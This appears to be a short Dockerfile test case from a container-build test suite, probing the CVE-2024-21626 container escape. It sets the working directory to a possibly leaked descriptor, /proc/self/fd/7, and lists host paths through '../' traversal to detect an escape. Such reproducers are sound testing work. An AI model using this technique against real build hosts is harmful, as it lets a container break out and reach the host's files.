# tries: a working directory that is a descriptor which the runtime may have left open (CVE-2024-21626)
# ends: .*
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
WORKDIR /proc/self/fd/7
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; pwd; echo TRIED 1
